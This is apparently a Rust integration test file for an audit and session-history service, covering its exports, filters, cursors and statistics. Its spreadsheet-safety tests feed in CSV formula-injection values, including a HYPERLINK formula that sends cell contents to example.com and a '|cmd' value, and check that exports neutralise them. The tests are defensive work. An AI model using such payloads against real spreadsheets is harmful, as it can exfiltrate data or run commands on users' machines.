//! The history as files and as numbers, and the lists of attempts and events.

use std::collections::BTreeSet;
use std::time::Duration;

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use chrono::{DateTime, TimeDelta, Utc};
use rstest::rstest;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use vigie::model::attempt::{Attempt, AttemptOutcome};
use vigie::model::audit::{AuditContext, AuditEvent, AuditKind, Details, Subject, SubjectKind};
use vigie::model::id::{BulkEndId, SessionId};
use vigie::model::session::{Actor, ClientInfo, EndReason, Session};
use vigie::store::{StoreError, audit};

use crate::support::app::{Answer, PASSWORD, TestApp, TestClient};
use crate::support::backend::Backend::{self, Postgres, Sqlite};
use crate::support::dump::Beside;
use crate::support::history::{ELSEWHERE, attempt, ended, every_page};
use crate::support::thousands::Rows;

/// Rows that need more than two pages of the export.
const MANY: usize = 1_234;

/// The rows of a CSV file by the names of its header.
fn csv_rows(answer: &Answer) -> Vec<std::collections::BTreeMap<String, String>> {
    assert_eq!(answer.status, 200, "{}", answer.body);
    assert_eq!(answer.header("content-type"), Some("text/csv; charset=utf-8; header=present"));
    let mut reader = csv::ReaderBuilder::new().flexible(false).from_reader(answer.body.as_bytes());
    reader.deserialize().map(|row| row.expect("a row with every column")).collect()
}

fn json_rows(answer: &Answer) -> Vec<Value> {
    assert_eq!(answer.status, 200, "{}", answer.body);
    assert_eq!(answer.header("content-type"), Some("application/x-ndjson"));
    answer.body.lines().map(|line| serde_json::from_str(line).expect("an object a line")).collect()
}

fn at(moment: DateTime<Utc>) -> String {
    moment.format("%Y-%m-%dT%H:%M:%SZ").to_string()
}

/// ADM-10: an export has every row, once, in order.
#[rstest]
#[actix_web::test]
async fn every_session_is_exported(#[values(Sqlite, Postgres)] backend: Backend) {
    let app = TestApp::start(backend).await;
    let auditor = app.auditor().await;
    let alice = app.user("alice", "agent").await;
    let sessions: Vec<Session> = (0..MANY).map(|_| app.session(&alice, "laptop", TimeDelta::hours(1))).collect();
    let ids: BTreeSet<String> = sessions.iter().map(|session| session.id.to_string()).collect();
    app.add_sessions(sessions).await;
    let answer = auditor.get("/admin/sessions/export?format=csv&user=alice&sort=started_at").await;
    assert_eq!(answer.header("content-disposition"), Some("attachment; filename=\"sessions.csv\""));
    assert_eq!(answer.header("cache-control"), Some("no-store"));
    let rows = csv_rows(&answer);
    assert_eq!(rows.len(), MANY);
    assert_eq!(rows.iter().map(|row| row["id"].clone()).collect::<BTreeSet<_>>(), ids);
    assert!(rows.windows(2).all(|pair| pair[0]["id"] < pair[1]["id"]));
    let first = &rows[0];
    assert_eq!((first["username"].as_str(), first["state"].as_str()), ("alice", "active"));
    assert_eq!((first["ip"].as_str(), first["ended_at"].as_str(), first["amr"].as_str()), (ELSEWHERE, "", "pwd"));
    let answer = auditor.get("/admin/sessions/export?format=ndjson&user=alice").await;
    assert_eq!(answer.header("content-disposition"), Some("attachment; filename=\"sessions.ndjson\""));
    let objects = json_rows(&answer);
    assert_eq!(objects.len(), MANY);
    let listed = auditor.get("/admin/sessions?user=alice&limit=500").await.expect(200);
    assert_eq!(objects[..500], listed["items"].as_array().expect("rows")[..], "the objects of the API");
    assert!(!answer.body.contains("seed") && !answer.body.contains("vgr_"), "nothing that can be replayed (P7)");
    let events = auditor.get("/admin/audit?kind=history.exported").await.expect(200);
    assert_eq!(events["items"][0]["details"]["count"], MANY);
}

/// Where it is asked for, nothing is exported before it is said what for; the record keeps it in any case.
#[rstest]
#[actix_web::test]
async fn prv_05_an_export_says_what_it_is_for(
    #[values(Sqlite, Postgres)] backend: Backend,
    #[values(false, true)] required: bool,
) {
    let app = TestApp::start_with(backend, &[("VIGIE__AUDIT__PURPOSE_REQUIRED", &required.to_string())]).await;
    let auditor = app.auditor().await;
    for what in ["sessions", "attempts", "audit"] {
        let export = async |purpose: &str| auditor.get(&format!("/admin/{what}/export?format=ndjson{purpose}")).await;
        let newest = async || {
            let events = auditor.get("/admin/audit?kind=history.exported").await.expect(200);
            events["items"][0]["details"].clone()
        };
        let before = newest().await;
        let bare = export("").await;
        if required {
            let problem = bare.problem(422, "invalid_input");
            assert_eq!(problem["errors"][0]["pointer"], "/purpose", "{problem}");
            assert_eq!(newest().await, before);
        } else {
            assert_eq!(bare.status, 200, "{}", bare.body);
            assert_eq!(newest().await.get("purpose"), None);
        }
        for none in ["", "%20", "court%20order%0A2026-17", &"x".repeat(201)] {
            let problem = export(&format!("&purpose={none}")).await.problem(422, "invalid_input");
            assert_eq!(problem["errors"][0]["pointer"], "/purpose", "{problem}");
        }
        assert_eq!(export("&purpose=r%C3%A9quisition%202026-17").await.status, 200);
        let event = newest().await;
        assert_eq!((&event["what"], &event["purpose"]), (&json!(what), &json!("réquisition 2026-17")));
        assert_eq!(export(&format!("&purpose={}", "é".repeat(200))).await.status, 200);
    }
}

#[rstest]
#[actix_web::test]
async fn every_attempt_is_exported(#[values(Sqlite, Postgres)] backend: Backend) {
    let app = TestApp::start(backend).await;
    let auditor = app.auditor().await;
    let start = app.now() - TimeDelta::hours(2);
    let attempts = (0..1_234).map(|number| attempt("g…0a0b0c0d", start + TimeDelta::seconds(number / 5)));
    app.add_attempts(attempts.collect()).await;
    let path = "/admin/attempts/export?outcome=unknown_user&format";
    let rows = csv_rows(&auditor.get(&format!("{path}=csv")).await);
    let objects = json_rows(&auditor.get(&format!("{path}=ndjson")).await);
    assert_eq!((rows.len(), objects.len()), (MANY, MANY));
    for (row, object) in rows.iter().zip(&objects) {
        assert_eq!(object["id"], row["id"]);
        assert_eq!((row["username"].as_str(), row["user_id"].as_str()), ("g…0a0b0c0d", ""));
    }
    assert!(rows.windows(2).all(|pair| (&pair[0]["at"], &pair[0]["id"]) > (&pair[1]["at"], &pair[1]["id"])));
}

#[rstest]
#[actix_web::test]
async fn every_event_is_exported(#[values(Sqlite, Postgres)] backend: Backend) {
    let app = TestApp::start(backend).await;
    let auditor = app.auditor().await;
    let now = app.now();
    let work = move |db: &mut _| {
        (0..MANY).try_for_each(|number| {
            let filter = json!({ "number": number, "text": "a, \"b\"\r\nc" });
            let details = Details::SessionsEndBegun { end: BulkEndId::new(now), filter, matched: 0, note: None };
            audit::record(db, &AuditEvent::new(now, details, &AuditContext::system("test"), Subject::everybody()))
        })
    };
    app.app.store.write::<_, StoreError>(work).await.expect("recorded");
    let rows = csv_rows(&auditor.get("/admin/audit/export?kind=sessions.end_begun&format=csv").await);
    let objects = json_rows(&auditor.get("/admin/audit/export?kind=sessions.end_begun&format=ndjson").await);
    assert_eq!((rows.len(), objects.len()), (MANY, MANY));
    for (place, (row, object)) in rows.iter().zip(&objects).enumerate() {
        let details: Value = serde_json::from_str(&row["details"]).expect("details are JSON");
        assert_eq!(details, object["details"]);
        assert_eq!(details["filter"]["number"], MANY - 1 - place);
        assert_eq!(row["seq"], object["seq"].to_string());
    }
}

/// Asks for an export and reads until something has come: the connection, and that.
pub(super) async fn export_begun(reader: &TestClient<'_>, path: &str) -> (TcpStream, Vec<u8>) {
    let socket = TcpSocket::new_v4().expect("a socket");
    socket.set_recv_buffer_size(4_096).expect("a small buffer");
    let mut stream = socket.connect(reader.app.address).await.expect("a connection");
    let head = format!("GET {path} HTTP/1.1\r\nHost: vigie\r\nConnection: close\r\n");
    let request = format!("{head}Authorization: Bearer {}\r\n\r\n", reader.token());
    stream.write_all(request.as_bytes()).await.expect("it is sent");
    let mut answer = Vec::new();
    while answer.len() < 4_096 {
        assert!(stream.read_buf(&mut answer).await.expect("it begins") > 0, "{}", String::from_utf8_lossy(&answer));
    }
    (stream, answer)
}

/// An export is as fast as its reader: what is not asked for yet is not read, so no export grows with its rows.
#[rstest]
#[actix_web::test]
async fn a_slow_reader_holds_an_export_back(#[values(Sqlite, Postgres)] backend: Backend) {
    let app = TestApp::start(backend).await;
    let auditor = app.auditor().await;
    app.database.fill(Rows { sessions: 1, attempts: 30_000, events: 1 }, false).await;
    let (mut stream, mut answer) = export_begun(&auditor, "/admin/attempts/export?format=ndjson").await;
    // Time to read everything, for whoever would.
    tokio::time::sleep(Duration::from_secs(2)).await;
    let mut beside = Beside::connect(&app.database.url);
    beside.drop_triggers();
    // The list begins with the newest.
    let oldest = "UPDATE attempts SET request_id = 'changed-since' WHERE id < '000003e8-0000-7000-8000-0000000003e8'";
    assert_eq!(beside.execute(oldest).expect("they are there"), 1_000);
    stream.read_to_end(&mut answer).await.expect("it goes on");
    let answer = String::from_utf8(answer).expect("text");
    assert!(answer.starts_with("HTTP/1.1 200 OK") && answer.ends_with("\r\n0\r\n\r\n"), "it is whole");
    assert_eq!(answer.matches("\"request_id\":").count(), 30_001, "all, and that of the auditor's login");
    assert_eq!(answer.matches("\"changed-since\"").count(), 1_000);
}

/// ADM-11: a spreadsheet takes no cell for a formula.
#[rstest]
#[actix_web::test]
async fn adm_11_an_export_runs_no_formula(#[values(Sqlite, Postgres)] backend: Backend) {
    let app = TestApp::start(backend).await;
    let auditor = app.auditor().await;
    app.user("=1+1", "@SUM(A1)").await;
    let agent = "=HYPERLINK(\"http://example.com/?x=\"&A1,\"click\")";
    let login = json!({ "username": "=1+1", "password": PASSWORD, "device_name": "-2+3|cmd" });
    let request = app.nobody().request(reqwest::Method::POST, "/auth/login").header("user-agent", agent).json(&login);
    crate::support::app::send(request).await.expect(200);
    let rows = csv_rows(&auditor.get("/admin/sessions/export?format=csv&role=%40SUM(A1)").await);
    let cells = ["username", "role", "user_agent", "device_name"].map(|name| rows[0][name].clone());
    assert_eq!(cells, ["'=1+1".to_owned(), "'@SUM(A1)".to_owned(), format!("'{agent}"), "'-2+3|cmd".to_owned(),]);
    let rows = csv_rows(&auditor.get("/admin/attempts/export?format=csv&username=%3D1%2B1").await);
    assert_eq!(rows[0]["user_agent"], format!("'{agent}"));
    // Machines get what was there.
    let objects = json_rows(&auditor.get("/admin/sessions/export?format=ndjson&role=%40SUM(A1)").await);
    assert_eq!(objects[0]["user_agent"], agent);
}

/// ADM-11: whichever separator was asked for, a spreadsheet that takes cells apart by another finds no formula either.
#[rstest]
#[actix_web::test]
async fn adm_11_an_export_for_any_spreadsheet_runs_no_formula(#[values(Sqlite, Postgres)] backend: Backend) {
    let app = TestApp::start(backend).await;
    let auditor = app.auditor().await;
    app.user("zoé", "agent").await;
    let agent = "Mozilla;=1+1,=2+2,\"=3+3\"";
    let login = json!({ "username": "zoé", "password": PASSWORD, "device_name": "-4" });
    let request = app.nobody().request(reqwest::Method::POST, "/auth/login").header("user-agent", agent).json(&login);
    crate::support::app::send(request).await.expect(200);
    for (word, separator) in [("comma", b','), ("semicolon", b';'), ("tab", b'\t')] {
        for bom in [false, true] {
            let path = format!("/admin/sessions/export?format=csv&role=agent&separator={word}&bom={bom}");
            let answer = auditor.get(&path).await;
            assert_eq!((answer.status, answer.body.starts_with('\u{feff}')), (200, bom), "{}", answer.body);
            let cells = |delimiter: u8| {
                let mut reader =
                    csv::ReaderBuilder::new().delimiter(delimiter).flexible(true).from_reader(answer.body.as_bytes());
                let rows: Vec<Vec<String>> = reader.deserialize().map(|row| row.expect("cells")).collect();
                rows.concat()
            };
            for other in *b",;\t" {
                let formula = cells(other).into_iter().find(|cell| cell.starts_with(['=', '+', '-', '@']));
                assert_eq!(formula, None, "{word} read by {:?}", char::from(other));
            }
            let whole = "Mozilla;'=1+1,'=2+2,\"'=3+3\"";
            let cells = cells(separator);
            assert!(["zoé", whole, "'-4"].iter().all(|cell| cells.iter().any(|found| found == cell)), "{cells:?}");
        }
    }
    for list in ["sessions", "attempts", "audit"] {
        for (option, pointer) in [
            ("csv&separator=pipe", "/separator"),
            ("csv&bom=perhaps", "/bom"),
            ("ndjson&separator=comma", "/separator"),
            ("ocsf&bom=true", "/bom"),
        ] {
            let answer = auditor.get(&format!("/admin/{list}/export?format={option}")).await;
            let problem = answer.problem(422, "invalid_input");
            assert_eq!(problem["errors"][0]["pointer"], pointer, "{problem}");
        }
    }
}

#[rstest]
#[actix_web::test]
async fn an_export_without_rows_has_its_header(#[values(Sqlite, Postgres)] backend: Backend) {
    let app = TestApp::start(backend).await;
    let auditor = app.auditor().await;
    for (list, filter) in [("sessions", "user=nobody"), ("attempts", "username=nobody"), ("audit", "subject=nobody")] {
        let answer = auditor.get(&format!("/admin/{list}/export?format=csv&{filter}")).await;
        assert_eq!(csv_rows(&answer).len(), 0);
        assert_eq!(answer.body.lines().count(), 1, "{}", answer.body);
        let answer = auditor.get(&format!("/admin/{list}/export?format=ndjson&{filter}")).await;
        assert_eq!(answer.body, "");
        for query in ["", "format=xml", "format=csv&limit=1", "format=csv&usr=x", "format=csv&cursor=x"] {
            auditor.get(&format!("/admin/{list}/export?{query}")).await.problem(422, "invalid_input");
        }
    }
}

/// Names whose attempts a filter finds, newest first.
async fn found(reviewer: &TestClient<'_>, query: &str) -> Vec<String> {
    let rows = every_page(reviewer, &format!("/admin/attempts?{query}"), 2).await;
    rows.iter()
        .map(|row| format!("{} {}", row["username"].as_str().unwrap_or("?"), row["outcome"].as_str().unwrap_or("?")))
        .collect()
}

/// ADM-10, P7: a name that nobody has is shown masked, and found by who knows it.
#[rstest]
#[actix_web::test]
async fn attempts_are_found_by_every_filter(#[values(Sqlite, Postgres)] backend: Backend) {
    let app = TestApp::start(backend).await;
    let auditor = app.auditor().await;
    let alice = app.user("Alice", "agent").await;
    let log_in = async |name: &str, password: &str| {
        app.advance(TimeDelta::seconds(1));
        app.nobody().post("/auth/login", json!({ "username": name, "password": password })).await
    };
    let start = app.now();
    log_in("alice", PASSWORD).await.expect(200);
    log_in("ALICE", "wrong wrong wrong").await.problem(401, "invalid_credentials");
    log_in("My Password 1", "alice").await.problem(401, "invalid_credentials");
    log_in("my password 1", "alice").await.problem(401, "invalid_credentials");
    let elsewhere = Attempt {
        user_id: Some(alice.id),
        outcome: AttemptOutcome::Disabled,
        ip: "2001:db8::7".parse().expect("an address"),
        ..attempt("Alice", start)
    };
    app.add_attempts(vec![elsewhere]).await;
    let masked = found(&auditor, "outcome=unknown_user").await;
    assert_eq!(masked.len(), 2);
    assert_eq!(masked[0], masked[1], "two tries with one name are seen to be one");
    assert!(masked[0].starts_with("m…") && !masked[0].contains("assword"), "{masked:?}");
    let (success, wrong, disabled) = ("Alice success", "Alice wrong_password", "Alice disabled");
    for (query, expected) in [
        ("username=alice".to_owned(), vec![wrong, success, disabled]),
        (format!("user={}", alice.id), vec![wrong, success, disabled]),
        ("user=ALICE&outcome=success".into(), vec![success]),
        ("username=MY%20password%201".into(), vec![&masked[0], &masked[0]]),
        ("user=my%20password%201".into(), vec![&masked[0], &masked[0]]),
        ("user=alice&username=bob".into(), vec![]),
        ("ip=2001:db8::/48".into(), vec![disabled]),
        ("ip=127.0.0.0/8&username=alice".into(), vec![wrong, success]),
        (
            format!("username=alice&from={}&to={}", at(start), at(start + TimeDelta::seconds(2))),
            vec![success, disabled],
        ),
        (format!("username=alice&from={}", at(start + TimeDelta::seconds(2))), vec![wrong]),
        // Several values: one of them. Excluded ones: none of them, and what has no such value stays.
        ("username=alice&username=my%20password%201".into(), vec![&masked[0], &masked[0], wrong, success, disabled]),
        ("not_username=my%20password%201&not_username=reviewer".into(), vec![wrong, success, disabled]),
        (format!("user={}&user=my%20password%201", alice.id), vec![&masked[0], &masked[0], wrong, success, disabled]),
        (format!("not_user={}&not_user=reviewer", alice.id), vec![&masked[0], &masked[0]]),
        ("outcome=disabled&outcome=wrong_password".into(), vec![wrong, disabled]),
        ("not_outcome=unknown_user&not_outcome=success".into(), vec![wrong, disabled]),
        ("not_ip=127.0.0.0/8".into(), vec![disabled]),
        ("ip=127.0.0.0/8&ip=2001:db8::7&username=alice&not_outcome=success".into(), vec![wrong, disabled]),
    ] {
        assert_eq!(found(&auditor, &query).await, expected, "{query}");
    }
    let exported =
        auditor.get("/admin/attempts/export?format=ndjson&user=alice&not_outcome=success&not_outcome=disabled");
    assert_eq!(json_rows(&exported.await).len(), 1);
    let twice = format!("from={0}&from={0}", at(start));
    for query in ["usr=x", "outcome=perhaps", "ip=x", "from=x", "sort=at", "not_from=x", &twice] {
        auditor.get(&format!("/admin/attempts?{query}")).await.problem(422, "invalid_input");
    }
}

#[rstest]
#[actix_web::test]
async fn events_are_found_by_every_filter(#[values(Sqlite, Postgres)] backend: Backend) {
    let app = TestApp::start(backend).await;
    let admin = app.admin().await;
    let root = admin.get("/auth/me").await.expect(200)["user"]["id"].as_str().expect("an id").to_owned();
    let alice = app.signed_in("alice").await;
    let user = alice.get("/auth/me").await.expect(200)["user"]["id"].as_str().expect("an id").to_owned();
    app.advance(TimeDelta::seconds(10));
    let moment = app.now();
    admin.patch(&format!("/admin/users/{user}"), json!({ "role": "chef" })).await.expect(200);
    admin.post_empty(&format!("/admin/sessions/{}/end", alice.session_id)).await.expect(204);
    let kinds = async |query: &str| {
        let rows = every_page(&admin, &format!("/admin/audit?{query}"), 3).await;
        rows.iter()
            .filter_map(|row| row["kind"].as_str().map(str::to_owned))
            .filter(|kind| kind != "history.read")
            .collect::<Vec<_>>()
            .join(" ")
    };
    assert_eq!(kinds(&format!("session_id={}", alice.session_id)).await, "session.ended session.started");
    assert_eq!(kinds(&format!("subject={user}")).await, "user.role_changed session.started user.created");
    assert_eq!(kinds(&format!("subject={}", alice.session_id)).await, "session.ended");
    assert_eq!(kinds("kind=user.role_changed").await, "user.role_changed");
    assert_eq!(kinds(&format!("actor={root}&from={}", at(moment))).await, "session.ended user.role_changed");
    assert_eq!(kinds(&format!("actor=cli&to={}", at(moment))).await, "user.created user.created");
    assert_eq!(kinds(&format!("from={}&to={}", at(moment), at(moment))).await, "");
    let event = admin.get("/admin/audit?kind=user.role_changed").await.expect(200)["items"][0].clone();
    assert_eq!(event["actor"], json!({ "kind": "admin", "id": root }));
    assert_eq!(event["subject"], json!({ "kind": "user", "id": user }));
    assert_eq!(event["details"], json!({ "from": "agent", "to": "chef" }));
    assert_eq!((&event["ip"], event["at"].as_str().map(|at| at.ends_with('Z'))), (&json!("127.0.0.1"), Some(true)));
    for query in ["usr=x", "kind=perhaps", "session_id=x", "from=x"] {
        admin.get(&format!("/admin/audit?{query}")).await.problem(422, "invalid_input");
    }
}

/// Events are listed by their time, and by their number where that is the same: also those that were recorded late, as ends
/// are that time brought, and those of one moment, as of an end of many.
#[rstest]
#[actix_web::test]
async fn events_of_one_moment_are_each_on_one_page(#[values(Sqlite, Postgres)] backend: Backend) {
    let app = TestApp::start(backend).await;
    let auditor = app.auditor().await;
    let moment = |number: i64| app.now() - TimeDelta::hours(1) + TimeDelta::seconds(number);
    let session = SessionId::new(app.now());
    // Of three moments: 17 events at the second of them, three at each of the others.
    let moments = [1, 1, 2, 1, 0, 1, 1, 1, 1, 1, 0, 1, 1, 1, 2, 1, 1, 2, 1, 1, 0, 1, 1];
    let events: Vec<AuditEvent> = moments
        .map(|number| {
            let subject = Subject::new(SubjectKind::Key, "a-key");
            AuditEvent::new(moment(number), Details::KeyRotated {}, &AuditContext::system("test"), subject)
                .in_session(session)
        })
        .into();
    app.app.store.write(move |db| audit::record_all(db, &events)).await.expect("recorded");
    let mut expected: Vec<(i64, i64)> = app
        .events_of(AuditKind::KeyRotated, &session.to_string())
        .await
        .iter()
        .map(|event| (event.event.at.timestamp_micros(), event.seq))
        .collect();
    assert_eq!(expected.len(), moments.len());
    expected.sort_unstable();
    expected.reverse();
    let places = |rows: &[Value]| -> Vec<(i64, i64)> {
        let time = |row: &Value| row["at"].as_str().and_then(|at| at.parse::<DateTime<Utc>>().ok()).expect("a time");
        rows.iter().map(|row| (time(row).timestamp_micros(), row["seq"].as_i64().expect("a number"))).collect()
    };
    for filter in ["kind=key.rotated", "actor=test", "subject=a-key", &format!("session_id={session}")] {
        for (query, expected) in [
            (filter.to_owned(), &expected[..]),
            (format!("{filter}&to={}", at(moment(3))), &expected[..]),
            (format!("{filter}&to={}", at(moment(2))), &expected[3..]),
            (format!("{filter}&from={}&to={}", at(moment(1)), at(moment(2))), &expected[3..20]),
            (format!("{filter}&from={}", at(moment(1))), &expected[..20]),
        ] {
            for limit in [1, 3, 4, 50] {
                let rows = every_page(&auditor, &format!("/admin/audit?{query}"), limit).await;
                assert_eq!(places(&rows), expected, "{query}, {limit} on a page");
            }
            let exported = json_rows(&auditor.get(&format!("/admin/audit/export?format=ndjson&{query}")).await);
            assert_eq!(places(&exported), expected, "{query}, exported");
        }
    }
}

/// ADM-10: of several values one is enough, and of those excluded none is there; an event without the value stays.
#[rstest]
#[actix_web::test]
async fn events_are_found_by_several_values_and_but_for_excluded_ones(#[values(Sqlite, Postgres)] backend: Backend) {
    let app = TestApp::start(backend).await;
    let auditor = app.auditor().await;
    let start = app.now() - TimeDelta::hours(1);
    let [one, other] = [0, 1].map(|number| SessionId::new(start + TimeDelta::seconds(number)));
    let event = |details: Details, by: &str, subject: Subject| {
        AuditEvent::new(start, details, &AuditContext::system(by), subject)
    };
    let key = |id: &str| Subject::new(SubjectKind::Key, id);
    let events = vec![
        event(Details::KeyRotated {}, "a", key("k1")).in_session(one),
        event(Details::KeyRotated {}, "b", key("k2")).in_session(other),
        event(Details::KeyRevoked {}, "c", key("k1")),
        event(Details::RecordVerified { records: 1, checkpoints: 1 }, "a", Subject::everybody()),
    ];
    app.app.store.write(move |db| audit::record_all(db, &events)).await.expect("recorded");
    for (query, expected) in [
        ("kind=key.rotated&kind=key.revoked".to_owned(), "c b a"),
        ("not_kind=key.rotated".into(), "a c"),
        ("actor=a&actor=b".into(), "a b a"),
        ("actor=a&actor=b&not_actor=b".into(), "a a"),
        ("subject=k1&subject=k2&not_kind=key.revoked".into(), "b a"),
        ("not_subject=k1".into(), "a b"),
        (format!("session_id={one}&session_id={other}"), "b a"),
        (format!("not_session_id={one}"), "a c b"),
        ("outcome=success&outcome=failure&not_actor=c".into(), "a b a"),
        ("not_outcome=success".into(), ""),
    ] {
        let query = format!("{query}&to={}", at(start + TimeDelta::seconds(1)));
        let actors = |rows: &[Value]| {
            let actors = rows.iter().map(|row| row["actor"]["id"].as_str().expect("an id").to_owned());
            actors.collect::<Vec<_>>().join(" ")
        };
        assert_eq!(actors(&every_page(&auditor, &format!("/admin/audit?{query}"), 2).await), expected, "{query}");
        let exported = auditor.get(&format!("/admin/audit/export?format=ndjson&{query}")).await;
        assert_eq!(actors(&json_rows(&exported)), expected, "{query}");
    }
    let read = auditor.get("/admin/audit?kind=history.exported&not_subject=k1&not_subject=k2").await.expect(200);
    let filter = &read["items"][0]["details"]["filter"];
    assert_eq!(filter["not_outcome"], "success", "the last export, as it was asked for: {filter}");
    for query in ["kind=key.rotated&kind=key.lost", "not_from=2026-01-01T00:00:00Z", "not_session_id=1"] {
        auditor.get(&format!("/admin/audit?{query}")).await.problem(422, "invalid_input");
    }
}

/// A cursor goes on after an event, whatever is asked for beside it; one that no list of events made is refused.
#[rstest]
#[actix_web::test]
async fn a_cursor_of_events_is_a_place_in_time(#[values(Sqlite, Postgres)] backend: Backend) {
    let app = TestApp::start(backend).await;
    let auditor = app.auditor().await;
    let moment = |number: i64| app.now() - TimeDelta::hours(1) + TimeDelta::seconds(number);
    let events: Vec<AuditEvent> = [0, 1, 2, 3]
        .map(|number| {
            let subject = Subject::new(SubjectKind::Key, "a-key");
            AuditEvent::new(moment(number), Details::KeyRotated {}, &AuditContext::system("test"), subject)
        })
        .into();
    app.app.store.write(move |db| audit::record_all(db, &events)).await.expect("recorded");
    let times = async |query: &str| -> Vec<i64> {
        let found = auditor.get(&format!("/admin/audit?kind=key.rotated&{query}")).await.expect(200);
        let times =
            found["items"].as_array().expect("rows").iter().map(|row| row["at"].as_str().expect("a time").to_owned());
        times.map(|time| (time.parse::<DateTime<Utc>>().expect("a time") - moment(0)).num_seconds()).collect()
    };
    let page = auditor.get("/admin/audit?kind=key.rotated&limit=2").await.expect(200);
    let cursor = page["next_cursor"].as_str().expect("more follow");
    for (bound, expected) in [(1, vec![0]), (2, vec![1, 0]), (3, vec![1, 0]), (9, vec![1, 0])] {
        assert_eq!(times(&format!("to={}&cursor={cursor}", at(moment(bound)))).await, expected, "to {bound}");
    }
    for keys in [
        &["17"][..],
        &["17", "x"],
        &["x", "17"],
        &["17", "17", "17"],
        &["9223372036854775807", "1"],
        &["-300000000000000000", "1"],
    ] {
        let cursor = URL_SAFE_NO_PAD.encode(format!("audit\n{}", keys.join("\n")));
        auditor.get(&format!("/admin/audit?cursor={cursor}")).await.problem(400, "malformed_request");
    }
}

/// Known numbers on two days.
#[rstest]
#[actix_web::test]
async fn statistics_count_what_happened(#[values(Sqlite, Postgres)] backend: Backend) {
    let app = TestApp::start(backend).await;
    let auditor = app.auditor().await;
    let alice = app.user("alice", "agent").await;
    let midnight = app.now().date_naive().and_hms_opt(0, 0, 0).expect("midnight").and_utc();
    let hour = |hours: i64| midnight + TimeDelta::hours(hours);
    let started = |moment: DateTime<Utc>, end: Option<(DateTime<Utc>, EndReason)>| Session {
        client_info: ClientInfo { ip: ELSEWHERE.parse().expect("an address"), user_agent: None },
        end: end.map(|(moment, reason)| ended(moment, reason, &Actor::user(alice.id), None)),
        ..app.session(&alice, "x", app.now() - moment)
    };
    app.add_sessions(vec![
        started(hour(-24), Some((hour(-23), EndReason::Logout))),
        started(hour(-23), Some((hour(-1), EndReason::Logout))),
        started(hour(-1), Some((hour(0), EndReason::EndedByAdmin))),
        started(hour(0), None),
        started(hour(0) + TimeDelta::microseconds(1), None),
        started(hour(1) - TimeDelta::microseconds(1), None),
    ])
    .await;
    app.add_attempts(vec![attempt("a", hour(-24)), attempt("b", hour(0)), attempt("c", hour(0))]).await;
    let path = format!("/admin/stats?from={}&to={}", at(hour(-24)), at(hour(2)));
    let days = auditor.get(&format!("{path}&bucket=day")).await.expect(200);
    let counted = |bucket: &Value| [&bucket["logins"], &bucket["failures"], &bucket["ends"]].map(Clone::clone);
    assert_eq!(days["buckets"].as_array().map(Vec::len), Some(2));
    assert_eq!(counted(&days["buckets"][0]), [json!(3), json!(1), json!({ "logout": 2 })]);
    assert_eq!(counted(&days["buckets"][1]), [json!(3), json!(2), json!({ "ended_by_admin": 1 })]);
    // Three of alice's and the auditor's own.
    assert_eq!(days["active_now"], 4);
    let hours = auditor.get(&format!("{path}&bucket=hour")).await.expect(200);
    let buckets = hours["buckets"].as_array().expect("buckets");
    assert_eq!(buckets.len(), 26);
    assert_eq!(counted(&buckets[0]), [json!(1), json!(1), json!({})]);
    assert_eq!(counted(&buckets[1]), [json!(1), json!(0), json!({ "logout": 1 })]);
    assert_eq!(counted(&buckets[24]), [json!(3), json!(2), json!({ "ended_by_admin": 1 })]);
    assert_eq!(counted(&buckets[25]), [json!(0), json!(0), json!({})]);
    assert_eq!(buckets[24]["start"], at(hour(0)).replace('Z', ".000000Z"));
    for query in ["bucket=week", "from=2026-01-02T00:00:00Z&to=2026-01-01T00:00:00Z", "limit=1"] {
        auditor.get(&format!("/admin/stats?{query}")).await.problem(422, "invalid_input");
    }
}
